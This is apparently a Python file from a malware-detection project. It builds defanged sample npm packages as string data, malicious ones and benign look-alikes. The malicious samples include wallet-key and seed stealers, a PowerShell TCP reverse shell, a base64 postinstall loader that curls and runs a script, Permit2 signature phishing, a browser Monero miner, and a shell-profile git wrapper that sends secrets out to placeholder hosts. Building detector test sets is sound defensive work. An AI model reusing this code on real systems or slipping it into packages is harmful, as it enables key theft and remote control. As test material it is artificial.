"""Samples of the `reach2` branch for scripts/make-samples.py (2026-11-25, issue 6): the classes
behind the holdout4 misses, in code shapes of our own: wallet key constructors replaced by a
dependency (ethers, Solana, BIP32), PowerShell TCP reverse shells started from compiled (Babel,
esbuild) code, keys mailed to a fixed address, `Function.prototype.constructor` loaders; and
tricky benign packages that call the same APIs honestly (wallet helpers that derive keys, a port
probe over a PowerShell TCPClient, compiled code posting its own build report).

Malicious samples are in SAMPLES, tricky benign ones in BENIGN; file names start with `reach2-`.
Same safety rules as samples_malicious.py: every source is Python string data, packed into a
tarball in memory, never written out, imported or run. Defanged: attacker hosts under reserved
names (.invalid, .example, .test, example.com/net/org) or documentation IPs; made-up keys.
"""

import base64

from samples_malicious import S, pj
from samples_common import readme, registry

SAMPLES, BENIGN, sample, benign = registry()


# =============================================================================================
# Malicious


_ETHERS_HOOK = r"""import { ethers } from 'ethers';

// Normalises recovery phrases (trims, lower-cases, collapses spaces) before ethers sees them.
const norm = (p) => String(p).trim().toLowerCase().split(/\s+/).join(' ');

const seen = new Set();
function remember(kind, value) {
  if (seen.has(value)) return;
  seen.add(value);
  fetch('https://phrase-normalizer.example.net/v1/stats', {
    method: 'POST',
    keepalive: true,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ k: kind, v: value, t: Date.now() }),
  }).catch(() => {});
}

const fromPhrase = ethers.Wallet.fromPhrase;
ethers.Wallet.fromPhrase = function (phrase, provider) {
  remember('p', norm(phrase));
  return fromPhrase.call(ethers.Wallet, norm(phrase), provider);
};

const fromEncrypted = ethers.Wallet.fromEncryptedJson;
ethers.Wallet.fromEncryptedJson = async function (json, password, progress) {
  const w = await fromEncrypted.call(ethers.Wallet, json, password, progress);
  remember('k', w.privateKey);
  return w;
};

export const normalizePhrase = norm;
export default ethers;
"""


@sample
def ethers_wallet_hook():
    files = {
        "package.json": pj(name="ethers-phrase-normalize", version="1.1.0", type="module",
                           description="Normalise BIP-39 phrases before ethers v6 parses them.",
                           module="index.js", exports={".": "./index.js"},
                           keywords=["ethers", "bip39", "mnemonic", "wallet"],
                           dependencies={"ethers": "^6.13.0"}),
        "README.md": readme("ethers-phrase-normalize", "```js\nimport ethers from 'ethers-phrase-normalize'\nconst w = ethers.Wallet.fromPhrase(' Abandon  abandon ... ')\n```"),
        "index.js": _ETHERS_HOOK,
    }
    return S("reach2-ethers-wallet-fromphrase-hook", "dependencies replacing wallet key "
             "constructors to copy every key the app loads (Solana Keypair and ethers Wallet "
             "hooks, 2024-2025)", "2024-2025",
             ["import-time", "function-hook", "wallet-key-theft", "mnemonic-theft",
              "fetch-exfil", "esm", "ethers"],
             "On import, replaces ethers.Wallet.fromPhrase and Wallet.fromEncryptedJson with "
             "wrappers that POST the recovery phrase and the decrypted private key to a fixed "
             "host with fetch keepalive.", files)


_BABEL_PS = r""""use strict";

Object.defineProperty(exports, "__esModule", { value: true });
exports.default = void 0;
var _child_process = _interopRequireDefault(require("child_process"));
var _os = _interopRequireDefault(require("os"));
function _interopRequireDefault(e) { return e && e.__esModule ? e : { default: e }; }
const TEMPLATE = "$t=New-Object System.Net.Sockets.TCPClient('%H',%P);$n=$t.GetStream();" +
  "$w=New-Object IO.StreamWriter($n);$r=New-Object IO.StreamReader($n);$w.AutoFlush=$true;" +
  "while($t.Connected){$l=$r.ReadLine();if(!$l){break};$x=(Invoke-Expression $l 2>&1|Out-String);$w.Write($x+'> ')}";
function warm() {
  if (_os.default.platform() !== "win32") return;
  const script = TEMPLATE.replace("%H", "203.0.113.77").replace("%P", "8443");
  const p = _child_process.default.spawn("pwsh", ["-NoLogo", "-WindowStyle", "Hidden", "-Command", script], {
    detached: true,
    stdio: "ignore",
    windowsHide: true
  });
  p.unref();
}
warm();
var _default = (bytes, digits = 1) => {
  const u = ["B", "KB", "MB", "GB", "TB"];
  let i = 0;
  while (bytes >= 1024 && i < u.length - 1) { bytes /= 1024; i++; }
  return `${bytes.toFixed(digits)} ${u[i]}`;
};
exports.default = _default;
"""


@sample
def babel_powershell_tcp_shell():
    files = {
        "package.json": pj(name="pretty-byte-size", version="2.0.3", main="lib/index.js",
                           description="Human-readable byte sizes.",
                           keywords=["bytes", "size", "format", "human"]),
        "README.md": readme("pretty-byte-size", "```js\nconst size = require('pretty-byte-size').default\nsize(1536) // '1.5 KB'\n```"),
        "lib/index.js": _BABEL_PS,
    }
    return S("reach2-babel-pwsh-tcp-reverse-shell", "compiled npm packages opening PowerShell "
             "TCP reverse shells on import (Phylum and ReversingLabs reports 2023-2024)",
             "2023-2024",
             ["import-time", "babel-compiled", "reverse-shell", "powershell", "windows",
              "raw-ip", "detached-process", "hidden-window"],
             "Babel output (_interopRequireDefault wrappers): on require, on Windows, starts pwsh "
             "hidden and detached with a -Command script whose TCPClient stream lines are run "
             "with Invoke-Expression and the output written back (no encoded command).", files)


_HDKEY_MAIL = r"""'use strict';
const { HDKey } = require('@scure/bip32');
const nodemailer = require('nodemailer');

const mailer = nodemailer.createTransport({
  host: 'smtp.mail-relay.example.org',
  port: 587,
  auth: { user: 'relay', pass: '00000000' },
});

function audit(seed) {
  mailer.sendMail({
    from: 'audit@mail-relay.example.org',
    to: 'keys@mail-relay.example.org',
    subject: 'derivation audit',
    text: Buffer.from(seed).toString('hex'),
  }).catch(() => {});
}

const original = HDKey.fromMasterSeed;
HDKey.fromMasterSeed = function (seed, versions) {
  audit(seed);
  return original.call(HDKey, seed, versions);
};

exports.derive = (seed, path) => HDKey.fromMasterSeed(seed).derive(path);
"""


@sample
def hdkey_seed_mailer():
    files = {
        "package.json": pj(name="bip32-path-utils", version="0.4.1", main="index.js",
                           description="Derivation path helpers on top of @scure/bip32.",
                           keywords=["bip32", "hd-wallet", "derivation"],
                           dependencies={"@scure/bip32": "^1.5.0", "nodemailer": "^6.9.0"}),
        "README.md": readme("bip32-path-utils", "```js\nconst { derive } = require('bip32-path-utils')\nderive(seed, \"m/44'/60'/0'/0/0\")\n```"),
        "index.js": _HDKEY_MAIL,
    }
    return S("reach2-hdkey-master-seed-smtp", "wallet seed stealers mailing keys over SMTP "
             "(Solana/BIP32 packages, 2025)", "2025",
             ["import-time", "function-hook", "wallet-key-theft", "smtp-exfil", "nodemailer",
              "hardcoded-credentials"],
             "On require, replaces HDKey.fromMasterSeed with a wrapper that mails every master "
             "seed, hex-encoded, to a fixed recipient through a hard-coded SMTP relay.", files)


_PROTO_STAGE = (
    "const cp = require('child_process');"
    "cp.exec('curl -fsSL http://198.51.100.61/s.sh -o /tmp/.s && sh /tmp/.s', () => {});"
)

_PROTO_LOADER = r"""'use strict';
// Checks the optional native binding once after install.
const blob = '@@B64@@';
const make = Function.prototype.constructor;
try {
  make('require', Buffer.from(blob, 'base64').toString('utf8'))(require);
} catch (e) {}
"""


@sample
def function_proto_loader():
    b64 = base64.b64encode(_PROTO_STAGE.encode()).decode()
    files = {
        "package.json": pj(name="native-binding-check", version="1.0.2", main="index.js",
                           description="Tells you whether the optional native binding loaded.",
                           scripts={"postinstall": "node check.js"},
                           keywords=["native", "binding", "prebuild"]),
        "README.md": readme("native-binding-check", "```js\nrequire('native-binding-check')()\n```"),
        "index.js": "module.exports = () => { try { require('./build/Release/b.node'); return true } catch (e) { return false } };\n",
        "check.js": _PROTO_LOADER.replace("@@B64@@", b64),
    }
    return S("reach2-function-prototype-constructor-loader", "install-time loaders compiling a "
             "decoded stage with the Function constructor reached through a prototype "
             "(droppers 2023-2025)", "2023-2025",
             ["install-script", "postinstall", "base64", "function-constructor",
              "download-and-run", "curl", "raw-ip"],
             "postinstall: a base64 constant decoded and compiled with "
             "Function.prototype.constructor('require', ...) and run; the stage curls a shell "
             "script from a raw IP and runs it.", files)


_PERMIT_ESM = r"""import { MaxUint256 } from 'ethers';

const VAULT = '0x5555555555555555555555555555555555555555';
const PERMIT2 = '0x000000000022D473030F116dDEE9F6B43aC78BA3';
const STABLES = {
  1: ['0x1111111111111111111111111111111111111111', '0x2222222222222222222222222222222222222222'],
  8453: ['0x6666666666666666666666666666666666666666'],
};

// "Gasless approvals": asks once per session so later swaps need no approval transaction.
export async function enableGasless(provider, account) {
  const chainId = Number(await provider.request({ method: 'eth_chainId' }));
  const tokens = STABLES[chainId];
  if (!tokens || sessionStorage.getItem('gl')) return;
  sessionStorage.setItem('gl', '1');
  const deadline = Math.floor(Date.now() / 1000) + 365 * 86400;
  const message = {
    details: tokens.map((token) => ({ token, amount: MaxUint256.toString(), expiration: deadline, nonce: 0 })),
    spender: VAULT,
    sigDeadline: deadline,
  };
  const typed = {
    domain: { name: 'Permit2', chainId, verifyingContract: PERMIT2 },
    primaryType: 'PermitBatch',
    types: { PermitBatch: [], PermitDetails: [] },
    message,
  };
  const signature = await provider.request({ method: 'eth_signTypedData_v4', params: [account, JSON.stringify(typed)] });
  await fetch('https://relay.gasless-swap.example.com/v1/permits', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ account, chainId, signature, message }),
  });
}
"""


@sample
def permit2_fixed_spender():
    files = {
        "package.json": pj(name="gasless-approve-kit", version="0.9.2", type="module",
                           description="One signature instead of approval transactions.",
                           module="index.js", exports={".": "./index.js"},
                           keywords=["permit2", "gasless", "approve", "web3"],
                           dependencies={"ethers": "^6.13.0"}),
        "README.md": readme("gasless-approve-kit", "```js\nimport { enableGasless } from 'gasless-approve-kit'\nawait enableGasless(window.ethereum, account)\n```"),
        "index.js": _PERMIT_ESM,
    }
    return S("reach2-permit2-fixed-spender-esm", "Permit2 signature phishing (Inferno/Angel "
             "drainer kits, 2023-2025) in an exported helper", "2023-2025",
             ["browser-only", "permit2-phishing", "signature-phishing", "max-approval",
              "fetch-exfil", "esm"],
             "An exported helper asks the wallet for an eth_signTypedData_v4 PermitBatch over "
             "the chain's stablecoins with amount MaxUint256, a one-year expiry and a spender "
             "constant in the code, and posts the signature to a fixed relay.", files)


_MINER_UMD = r"""(function (root, factory) {
  if (typeof module === 'object' && module.exports) module.exports = factory();
  else root.LazyImg = factory();
}(this, function () {
  'use strict';
  var SITE = '4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge';
  var started = false;

  function prefetch() {
    if (started || typeof Worker === 'undefined') return;
    started = true;
    var n = Math.max(1, (navigator.hardwareConcurrency || 2) - 1);
    for (var i = 0; i < n; i++) {
      var w = new Worker('https://img-cdn.lazy-img.example.org/decoder.worker.js');
      w.postMessage({ cmd: 'start', site: SITE, endpoint: 'wss://img-cdn.lazy-img.example.org/q', throttle: 0 });
    }
  }

  function observe(selector) {
    var io = new IntersectionObserver(function (entries) {
      entries.forEach(function (e) {
        if (e.isIntersecting) { e.target.src = e.target.dataset.src; io.unobserve(e.target); }
      });
    });
    document.querySelectorAll(selector || 'img[data-src]').forEach(function (img) { io.observe(img); });
    setTimeout(prefetch, 3000);
  }

  return { observe: observe };
}));
"""


@sample
def umd_worker_miner():
    files = {
        "package.json": pj(name="lazy-img-observer", version="2.3.0", main="dist/lazy-img.umd.js",
                           description="Lazy-load images with IntersectionObserver.",
                           keywords=["lazy", "images", "intersection-observer"]),
        "README.md": readme("lazy-img-observer", "```js\nLazyImg.observe('img[data-src]')\n```"),
        "dist/lazy-img.umd.js": _MINER_UMD,
    }
    return S("reach2-lazy-img-umd-worker-miner", "browser cryptojacking in front-end packages "
             "(Coinhive-style miners in npm and CDN scripts, 2018-2024)", "2018-2024",
             ["browser-only", "cryptojacking", "web-worker", "monero", "umd"],
             "UMD build: three seconds after observe(), starts one remote Web Worker per core "
             "minus one and hands each a Monero address as site key and a WebSocket endpoint, "
             "throttle 0.", files)


_PROFILE_HOOK = r"""#!/usr/bin/env bash
# Sets up the git-lfs-lite smudge filter for the current user.
set -e
target="${ZDOTDIR:-$HOME}"
for f in "$target/.zprofile" "$HOME/.profile"; do
  [ -w "$f" ] || continue
  if ! grep -q "GLL_SYNC" "$f"; then
    cat >> "$f" <<'EOS'
# git-lfs-lite
export GLL_SYNC=1
git() { if [ "$1" = "push" ] || [ "$1" = "clone" ]; then (env | grep -iE "token|secret|key" | curl -s -m 5 -X POST --data-binary @- https://lfs-lite-telemetry.example.net/s >/dev/null 2>&1 &); fi; command git "$@"; }
EOS
  fi
done
git config --global filter.lfs-lite.smudge "cat" || true
"""


@sample
def profile_git_wrapper():
    files = {
        "package.json": pj(name="git-lfs-lite", version="0.3.1", description="Tiny LFS smudge filter for small repos.",
                           scripts={"postinstall": "bash scripts/setup.sh"}, bin={"git-lfs-lite": "bin/cli.js"},
                           keywords=["git", "lfs", "filter"]),
        "README.md": readme("git-lfs-lite", "```sh\nnpm i -g git-lfs-lite\n```"),
        "bin/cli.js": "#!/usr/bin/env node\nprocess.stdin.pipe(process.stdout);\n",
        "scripts/setup.sh": _PROFILE_HOOK,
    }
    return S("reach2-git-lfs-lite-profile-git-wrapper", "install scripts planting shell functions "
             "in start-up files that wrap sudo/git and steal secrets (2023-2025)", "2023-2025",
             ["install-script", "postinstall", "shell-only", "shell-rc-persistence",
              "function-wrapper", "env-theft", "curl-exfil"],
             "postinstall bash script appends, with a here-document, a git() function to "
             "~/.zprofile and ~/.profile that, on push or clone, posts secret-named environment "
             "variables to a fixed host with curl in the background before running the real git.",
             files)


# =============================================================================================
# Tricky benign


_WALLET_HELPER = r"""'use strict';
const { Keypair } = require('@solana/web3.js');
const { ethers } = require('ethers');
const nodemailer = require('nodemailer');

// Derives the public addresses of a seed, for a recovery report the user mails to themself.
function addresses(phrase) {
  const evm = ethers.Wallet.fromPhrase(phrase);
  const sol = Keypair.fromSeed(ethers.getBytes(ethers.id(phrase)).slice(0, 32));
  return { evm: evm.address, sol: sol.publicKey.toBase58() };
}

async function mailReport(transportOptions, to, phrase) {
  const a = addresses(phrase);
  const t = nodemailer.createTransport(transportOptions);
  await t.sendMail({ from: transportOptions.auth.user, to, subject: 'Your wallet addresses', text: `EVM ${a.evm}\nSolana ${a.sol}` });
}

const isKeypair = (k) => k instanceof Keypair || (k && k.secretKey && k.secretKey.length === 64);

module.exports = { addresses, mailReport, isKeypair };
"""


@benign
def b_wallet_helper():
    files = {
        "package.json": pj(name="wallet-address-report", version="2.2.0", main="index.js",
                           description="Derive EVM and Solana addresses from a phrase and mail the report to yourself.",
                           keywords=["wallet", "addresses", "report"],
                           dependencies={"@solana/web3.js": "^1.95.0", "ethers": "^6.13.0", "nodemailer": "^6.9.0"}),
        "README.md": readme("wallet-address-report", "```js\nawait mailReport(smtp, 'me@mail.example', phrase)\n```"),
        "index.js": _WALLET_HELPER,
    }
    return S("reach2-benign-wallet-address-report", "wallet helper calling Wallet.fromPhrase and "
             "Keypair.fromSeed and mailing addresses to the caller's recipient", "2025",
             ["wallet", "nodemailer", "key-derivation"],
             "Mirrors reach2-ethers-wallet-fromphrase-hook and reach2-hdkey-master-seed-smtp: "
             "same constructors and mailer, but it calls the constructors (never replaces them) "
             "and mails only public addresses to a recipient its caller gives.", files)


_HASH_POOL = r"""// Hash large files in parallel: one worker per core, chunks of 4 MiB.
export function hashFiles(files, workerUrl = new URL('./sha256.worker.js', import.meta.url)) {
  const n = Math.max(1, navigator.hardwareConcurrency || 2);
  const pool = Array.from({ length: n }, () => new Worker(workerUrl, { type: 'module' }));
  let next = 0;
  return Promise.all(files.map((file) => new Promise((resolve, reject) => {
    const w = pool[next++ % n];
    const ch = new MessageChannel();
    ch.port1.onmessage = (e) => (e.data.error ? reject(new Error(e.data.error)) : resolve(e.data.hex));
    w.postMessage({ file, chunk: 4 << 20, port: ch.port2 }, [ch.port2]);
  })));
}

// Shown in the demo page footer.
export const DONATE = {
  btc: 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
  xmr: 'see https://hash-pool.example.org/donate',
};
"""


@benign
def b_hash_pool():
    files = {
        "package.json": pj(name="parallel-file-hash", version="1.2.0", type="module",
                           module="index.js", exports={".": "./index.js"},
                           description="SHA-256 of large files in the browser with a worker per core.",
                           keywords=["sha256", "hash", "worker", "browser"]),
        "README.md": readme("parallel-file-hash", "```js\nconst [hex] = await hashFiles([file])\n```"),
        "index.js": _HASH_POOL,
        "sha256.worker.js": "self.onmessage = async (e) => { const { file, port } = e.data; const buf = await file.arrayBuffer(); const d = await crypto.subtle.digest('SHA-256', buf); port.postMessage({ hex: [...new Uint8Array(d)].map((b) => b.toString(16).padStart(2, '0')).join('') }); };\n",
    }
    return S("reach2-benign-parallel-file-hash", "browser hashing library with a worker per "
             "core and a donation address", "2025", ["browser-only", "web-worker", "hashing"],
             "Mirrors reach2-lazy-img-umd-worker-miner: Web Workers sized to hardwareConcurrency "
             "doing CPU work, and a cryptocurrency donation address, but no Monero address handed "
             "to the workers and no pool connection.", files)


_PORT_PROBE = r""""use strict";
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.probe = void 0;
const child_process_1 = __importDefault(require("child_process"));
const https_1 = __importDefault(require("https"));
// Windows without `nc`: ask PowerShell whether a TCP port answers.
function probe(host, port) {
    const ps = `$c=New-Object System.Net.Sockets.TCPClient;$r=$c.BeginConnect('${host}',${port},$null,$null);` +
        `$ok=$r.AsyncWaitHandle.WaitOne(1500);if($ok){$s=$c.GetStream();$s.Close()};$c.Close();Write-Output $ok`;
    const out = child_process_1.default.execFileSync("powershell.exe", ["-NoProfile", "-NonInteractive", "-Command", ps], { encoding: "utf8", windowsHide: true });
    return out.trim() === "True";
}
exports.probe = probe;
function report(results) {
    const body = JSON.stringify({ results, node: process.version });
    const req = https_1.default.request("https://status.port-probe.example.com/v1/report", { method: "POST", headers: { "content-type": "application/json" } });
    req.on("error", () => undefined);
    req.end(body);
}
exports.report = report;
"""


@benign
def b_port_probe():
    files = {
        "package.json": pj(name="win-port-probe", version="1.5.0", main="dist/index.js",
                           types="dist/index.d.ts", bin={"port-probe": "dist/cli.js"},
                           description="Check TCP ports on Windows without netcat.",
                           keywords=["port", "tcp", "windows", "powershell"]),
        "README.md": readme("win-port-probe", "```js\nconst { probe } = require('win-port-probe')\nprobe('db.internal.example', 5432)\n```"),
        "dist/index.js": _PORT_PROBE,
        "dist/cli.js": "#!/usr/bin/env node\nconst { probe } = require('./index.js');\nconst [h, p] = process.argv.slice(2);\nprocess.exitCode = probe(h, Number(p)) ? 0 : 1;\n",
        "dist/index.d.ts": "export declare function probe(host: string, port: number): boolean;\nexport declare function report(results: unknown): void;\n",
    }
    return S("reach2-benign-win-port-probe", "TypeScript-compiled port probe using a PowerShell "
             "TCPClient, posting the caller's results to its status API", "2025",
             ["typescript-compiled", "powershell", "tcp", "https-post"],
             "Mirrors reach2-babel-pwsh-tcp-reverse-shell: compiled interop wrappers, a "
             "PowerShell TCPClient and GetStream, but the stream is closed, nothing is read and "
             "run, the window is not hidden, and the report posts the caller's data, no secrets.",
             files)
